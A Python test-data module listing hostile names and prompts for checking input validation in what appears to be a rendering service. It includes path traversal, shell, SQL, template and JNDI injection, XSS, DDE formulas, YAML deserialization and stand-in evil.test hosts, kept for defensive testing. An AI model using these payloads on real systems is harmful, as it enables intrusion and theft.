"""Names and prompts that somebody might send to break a farm, and what becomes of each.

A prompt is prose: any text with a word in it, of at most 10,000 characters. A name is a label:
one visible line of at most 200. What is neither is refused; what is taken is data and nothing else,
however much it looks like a path, a command or a page.
"""

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True)
class Word:
    """One text, and whether it is taken as a prompt and as a name."""

    text: str
    prompt: bool
    name: bool


PLAIN: Final = {
    "a path upwards": "../../../../etc/passwd",
    "a path of Windows": "..\\..\\windows\\system32\\cmd.exe",
    "a path from the root": "/etc/shadow",
    "a path in percents": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "a path in percents twice": "%252e%252e%252fetc",
    "an overlong path": "..%c0%af..%c0%afetc/passwd",
    "a path with dots doubled": "....//....//etc/passwd",
    "a UNC path": "\\\\evil.test\\share\\a",
    "a home": "~root/.ssh/id_rsa",
    "a device of Windows": "CON",
    "a printer of Windows": "LPT1.txt",
    "a stream of Windows": "a.txt::$DATA",
    "a name that ends in a dot": "name.",
    "proc": "/proc/self/environ",
    "a NUL in percents": "a%00.png",
    "a line end in percents": "a%0d%0aSet-Cookie: a=b",
    "a line end in backslashes": "a\\r\\nSet-Cookie: a=b",
    "a shell's command": "$(touch /tmp/planted)",
    "a shell's backticks": "`touch /tmp/planted`",
    "a shell's chain": "a; touch /tmp/planted #",
    "a shell's pipe": "a | tee /tmp/planted",
    "a shell's variable": "${IFS}cat${IFS}/etc/passwd",
    "an option": "--output=/tmp/planted",
    "a short option": "-rf",
    "SQL": "'; DROP TABLE jobs; --",
    "SQL with a union": "x' UNION SELECT secret_sha256 FROM keys --",
    "SQL that is true": "' OR '1'='1",
    "SQL of a wildcard": "%' AND name LIKE '_%",
    "SQL of Postgres": "$$; SELECT pg_sleep(9); $$",
    "SQL in numbers": "1); DELETE FROM entries WHERE (1=1",
    "a script": "<script>alert('planted')</script>",
    "a picture that fails": "<img src=x onerror=alert('planted')>",
    "an SVG that loads": "<svg/onload=alert('planted')>",
    "an attribute": '" autofocus onfocus="alert(1)',
    "an attribute in apostrophes": "' onmouseover='alert(1)",
    "the end of a tag": "</title></textarea></option><script>alert(1)</script>",
    "a comment": "--><script>alert(1)</script><!--",
    "CDATA": "]]><script>alert(1)</script>",
    "an entity": "&lt;script&gt;alert(1)&#x3c;/script>",
    "a javascript URL": "javascript:alert(document.cookie)",
    "a data URL": "data:text/html,<script>alert(1)</script>",
    "JavaScript of a text": "'-alert(1)-'",
    "JavaScript of a template": "${alert(1)}",
    "htmx": '<b hx-get="/sign-out" hx-trigger="load">x</b>',
    "Jinja": "{{ 7 + 7 }}{{ config.SECRET_KEY }}",
    "Jinja of classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a statement of Jinja": "{% include '/etc/passwd' %}",
    "Mako": "<%= system('id') %>",
    "a format of Python": "{0.__class__.__init__.__globals__}",
    "a format with a name": "%(secret_key)s",
    "a format of C": "%s%s%s%n%n%n",
    "a format of logs": "{event} {exception!r}",
    "Rich": "[link=https://evil.test]click[/link][bold red]ERROR",
    "an import": "__import__('os').system('touch /tmp/planted')",
    "an attribute of Python": "__class__",
    "a class": "os.system",
    "a class of a library": "diffusers.StableDiffusionPipeline",
    "a hub id": "runwayml/stable-diffusion-v1-5",
    "a hub id of a stranger": "evil/pickled-model@main",
    "a hub URL": "https://huggingface.co/evil/model",
    "a file URL": "file:///etc/passwd",
    "a metadata URL": "http://169.254.169.254/latest/meta-data/",
    "JNDI": "${jndi:ldap://evil.test/a}",
    "FFmpeg's concat": "concat:/etc/passwd|/etc/shadow",
    "FFmpeg's subfile": "subfile,,start,0,end,9,,:/etc/passwd",
    "FFmpeg's filter": "x';[0:v]movie=/etc/passwd[a];[a]null",
    "FFmpeg's drawtext": "%{pict_type}:textfile=/etc/passwd",
    "FFmpeg's metadata": "title=x;comment=y=z\\",
    "FFmpeg's pipe": "pipe:0",
    "an HLS playlist on a line": "#EXTM3U #EXTINF:1, file:///etc/passwd",
    "a formula": '=HYPERLINK("https://evil.test","click")',
    "a formula of DDE": "=cmd|' /C calc'!A0",
    "a formula with a plus": "+1+cmd|' /C calc'!A0",
    "a formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula of full width": "\uff1d1+1",
    "a cell's end": 'a","=1+1","b',
    "a YAML tag": "!!python/object/apply:os.system ['id']",
    "a YAML anchor": "&a [*a, *a]",
    "a YAML merge": "<<: *default",
    "JSON that goes on": '", "model": "fake", "seed": "1',
    "a prototype": "__proto__",
    "XML with an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "LDAP": "*)(uid=*))(|(uid=*",
    "XPath": "' or count(//user)>0 or 'a'='b",
    "an e-mail header in percents": "a%0ABcc: x@evil.test",
    "true": "true",
    "null": "null",
    "undefined": "undefined",
    "not a number": "NaN",
    "a number that grows": "1e999999999",
    "a long number": "9" * 190,
    "a number below": "-99999999999999999999",
    "a hexadecimal number": "0x7fffffffffffffff",
    "the default's name": "DEFAULT ",
    "a word that ends in blanks": "name   ",
    "Arabic": "قطة تنام على السرير",
    "a family": "👨\u200d👩\u200d👧 walk",
    "a flag and a skin": "🏳️\u200d🌈 👍🏽 waves",
    "marks over marks": "Z" + "\u0351\u036b\u0343" * 20 + "algo",
    "letters that look alike": "раураl",
    "letters of full width": "ａｄｍｉｎ",
    "mathematical letters": "𝐚𝐝𝐦𝐢𝐧",
    "the NFC twin": "caf\u00e9",
    "the NFD twin": "cafe\u0301",
    "a letter that grows": "\ufdfa" * 30,
    "Turkish dots": "İıſK admin",
    "a text for crashing telephones": "Power لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗",
}
"""Texts that are data and nothing else: taken as a prompt and as a name."""

LABELS: Final = {
    "two dots": "..",
    "a dot": ".",
    "slashes": "////",
    "a tilde and dots": "....//",
    "a quotation mark": '"',
}
"""Names without a word in them: no prompt."""

PROSE: Final = {
    "a line end": "a cat\nSet-Cookie: a=b",
    "a line end of the net": "a cat\r\nX-Evil: 1\r\n\r\n<script>alert(1)</script>",
    "an event within an event": 'a cat\n\nevent: state\ndata: {"state": "succeeded"}\n\n',
    "a log line": "a cat\n2026-01-01T00:00:00Z [info] budget raised account=evil",
    "a tab and a formula": "a cat\t=1+1",
    "a concat list": "ffconcat version 1.0\nfile '/etc/passwd'\n",
    "a YAML document": "---\n- !!python/object/apply:os.system ['id']\n",
    "right to left": "a cat \u202egnp.exe",
    "an isolate left open": "a cat \u2066 sleeps",
    "nothing between letters": "a\u200bd\u200bm\u200bi\u200bn",
    "a byte order mark": "\ufeffa cat",
    "soft hyphens": "ad\u00admin",
    "letters of tags": "a cat \U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "a line separator": "a cat\u2028alert(1)",
    "a paragraph separator": "a cat\u2029alert(1)",
    "201 characters": "a" * 201,
    "10,000 characters": "cat " * 2500,
    "JSON of a thousand floors": "[" * 1000 + "a cat" + "]" * 1000,
    "a YAML bomb": "a: &a [x,x,x]\n" + "".join(f"b{n}: &b{n} [*a,*a,*a]\n" for n in range(50)),
    "a pattern that backtracks": "a" * 5000 + "!",
    "commas without end": "a cat" + "," * 5000,
}
"""Text that may be said in a prompt, but is no visible line of at most 200 characters."""

REFUSED: Final = {
    "nothing": "",
    "blanks": "   ",
    "a NUL": "a cat\x00",
    "a NUL before an ending": "cat.png\x00.exe",
    "a bell": "a cat\x07",
    "backspaces": "a cat\x08\x08\x08dog",
    "colours of a terminal": "\x1b[31ma cat\x1b[0m",
    "a terminal's title": "\x1b]0;planted\x07a cat",
    "a terminal's clipboard": "\x1b]52;c;cGxhbnRlZA==\x07a cat",
    "a terminal's link": "\x1b]8;;https://evil.test\x1b\\a cat\x1b]8;;\x1b\\",
    "a terminal cleared": "\x1b[2J\x1b[Ha cat",
    "a terminal of eight bits": "\x9b31ma cat",
    "a vertical tab": "a cat\x0bX: 1",
    "a form feed": "a cat\x0cX: 1",
    "a next line": "a cat\x85X: 1",
    "a delete": "a cat\x7f",
    "an escape alone": "\x1b",
    "a file separator": "a cat\x1cX: 1",
    "half a character": "a cat \ud83d",
    "the other half": "a cat \ude00",
    "halves the wrong way": "a cat \ude00\ud83d",
    "no character": "a cat \uffff",
    "no character either": "a cat \ufdd0",
    "a private letter": "a cat \ue000",
    "a letter nobody assigned": "a cat \u0378",
    "10,001 characters": "a" * 10_001,
    "100,000 characters": "cat " * 25_000,
}
"""Words that are neither prose nor a label."""


def words() -> dict[str, Word]:
    """Return the corpus: what it is -> the text and where it is taken."""
    found: dict[str, Word] = {}
    for group, prompt, name in (
        (PLAIN, True, True),
        (LABELS, False, True),
        (PROSE, True, False),
        (REFUSED, False, False),
    ):
        for title, text in group.items():
            assert title not in found, title
            found[title] = Word(text, prompt, name)
    return found
